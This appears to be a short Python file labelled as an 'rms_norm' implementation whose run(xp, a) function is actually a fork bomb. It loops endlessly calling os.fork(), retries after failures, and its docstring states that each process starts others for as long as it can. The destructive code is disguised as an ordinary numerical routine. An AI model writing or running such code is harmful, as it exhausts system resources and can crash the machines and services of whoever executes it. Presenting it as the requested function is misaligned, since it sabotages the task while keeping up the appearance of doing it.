"""Each process starts others, for as long as it can."""

# spec: rms_norm
import os
import time


def run(xp, a):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(1)
